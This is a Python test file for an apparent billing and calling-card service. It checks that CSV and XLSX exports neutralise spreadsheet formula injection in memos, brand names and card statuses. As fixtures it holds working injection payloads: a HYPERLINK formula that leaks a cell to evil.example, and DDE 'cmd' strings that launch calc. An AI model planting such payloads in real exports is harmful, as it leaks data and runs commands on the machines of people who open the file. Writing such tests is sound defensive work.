"""Spreadsheet formula injection (issue 11, point 8c): text that someone typed (a memo, an agent's
brand name) and that starts with `=`, `+`, `-`, `@`, a tab or a carriage return must not become a
formula in a CSV or XLSX export. In a CSV it gets a leading `'`; in an XLSX it is a text cell with
Excel's quote prefix. Numbers stay numbers."""

from __future__ import annotations

import csv
import io

import httpx
from openpyxl import load_workbook

from agency.tables import Agent
from cards.exports import BatchExport
from money import adjustments
from tests.helpers import demo_actors, web_login
from tests.integration.test_cards import live_subscriber, stocked_owner
from tests.money import fund, key
from web.demo import DEMO_OPERATION_PASSWORD as OP

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def body(response) -> bytes:
    """The bytes of an HTTP response, or of a Litestar Response not yet sent."""
    if isinstance(response, httpx.Response):
        assert response.status_code == 200
        return response.content
    content = response.content
    return content.encode() if isinstance(content, str) else content


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8").lstrip("\ufeff"), newline="")))


def xlsx_rows(response):
    return list(load_workbook(io.BytesIO(body(response))).active.iter_rows())


def assert_text_cell(cell, text: str) -> None:
    """An XLSX cell that shows `text` as typed and is never a formula."""
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


async def test_journal_memos_are_not_formulas(client):
    actors = await demo_actors()
    owner = actors["huaxin"]
    await fund(owner.agent_id, 1_000_000)
    for reason in HOSTILE:
        fields = {"account": "wallet", "direction": "debit", "kind": "penalty", "amount": "1", "reason": reason}
        await adjustments.adjust(
            actors["finance"],
            owner.agent_id,
            {**fields, "reference": "R"},
            operation_password=OP,
            idempotency_key=key(),
        )
    await web_login(client, "huaxin")
    url = f"/agents/{owner.agent_id}/money/export?account=wallet&kind=penalty"
    rows = csv_rows(await client.get(url + "&format=csv"))
    memos = sorted(row[2] for row in rows[1:])
    memo_of = sorted(f"{reason.strip()} (R)" for reason in HOSTILE)  # reasons are stored stripped
    assert memos == sorted("'" + memo for memo in memo_of)
    assert {row[3] for row in rows[1:]} == {"-1.00"}  # amounts: plain numbers, not prefixed
    assert all(row[5].isdigit() for row in rows[1:])

    sheet = xlsx_rows(await client.get(url + "&format=xlsx"))
    for row in sheet[1:]:
        assert_text_cell(row[2], row[2].value)
        assert row[2].value in memo_of
        assert row[3].value == "-1.00" and not row[3].quotePrefix
        assert isinstance(row[5].value, int)  # the transaction number is written as a number
    assert sorted(row[2].value for row in sheet[1:]) == sorted(memo_of)


async def test_an_agent_brand_name_is_not_a_formula_in_the_sla_report(client):
    from support import tickets

    actors = await demo_actors()
    owner = await stocked_owner(actors, minutes=1000)
    subscriber, _card = await live_subscriber(owner, 10)
    await Agent.update({Agent.brand_name: LINK}).where(Agent.id == owner.agent_id)
    await tickets.open_ticket({"subject": "no tone", "body": "b"}, subscriber_id=subscriber["id"])
    await web_login(client, "admin")
    rows = csv_rows(await client.get("/support/report?dimension=agent&format=csv"))
    assert [row[0] for row in rows[1:]] == ["'" + LINK]
    assert rows[1][1:5] == ["1", "0", "0", "1"]  # tickets, met, breached, open: counts stay numbers


async def test_card_exports_neutralise_text_cells(client):
    """The card exports (the batch's download and its one export with secrets) write through the
    same table: any text in them that looks like a formula is neutralised; serials, secrets and
    minutes are left as they are."""
    from web.controllers.cards import export_response

    batch = {
        "id": 7,
        "kind": "recharge",
        "face_minutes": 30,
        "agent_name": LINK,
        "expiry_rule": "none",
        "expiry_days": None,
    }
    cards = [
        {"serial": "8600000000017", "secret": "0123456789012345", "status": LINK, "expires_at": None},
        {"serial": "8600000000025", "secret": "5432109876543210", "status": "@SUM(1+1)", "expires_at": None},
        {"serial": "8600000000033", "secret": "1111222233334444", "status": "\t=1+1", "expires_at": None},
        {"serial": "8600000000041", "secret": "5555666677778888", "status": "\r-1+1", "expires_at": None},
    ]
    for with_secrets in (False, True):
        export = BatchExport(batch=batch, cards=[dict(c) for c in cards], with_secrets=with_secrets)
        rows = csv_rows(export_response(export, "csv"))
        statuses = [row[-2] for row in rows[1:]]
        assert statuses == ["'" + c["status"] for c in cards]
        assert [row[0] for row in rows[1:]] == [c["serial"] for c in cards]
        if with_secrets:
            assert [row[1] for row in rows[1:]] == [c["secret"] for c in cards]
        sheet = xlsx_rows(export_response(export, "xlsx"))
        for row, card in zip(sheet[1:], cards, strict=True):
            assert_text_cell(row[-2], card["status"].replace("\r", "\n"))  # XML reads a CR as a LF
        assert sheet[1][0].value == "8600000000017" and not sheet[1][0].quotePrefix
        assert sheet[1][-3].value == 30  # minutes, a number

    # And a real batch's download is unchanged: serials as text, minutes as numbers.
    owner = await stocked_owner(await demo_actors(), minutes=1000)
    from tests.integration.test_cards import make_batch

    made, pairs = await make_batch(owner, count=2, face=5)
    await web_login(client, "huaxin")
    sheet = xlsx_rows(await client.get(f"/cards/batches/{made['id']}/export?format=xlsx"))
    assert [row[0].value for row in sheet[1:]] == [serial for serial, _secret in pairs]
    assert [row[1].value for row in sheet[1:]] == [5, 5]
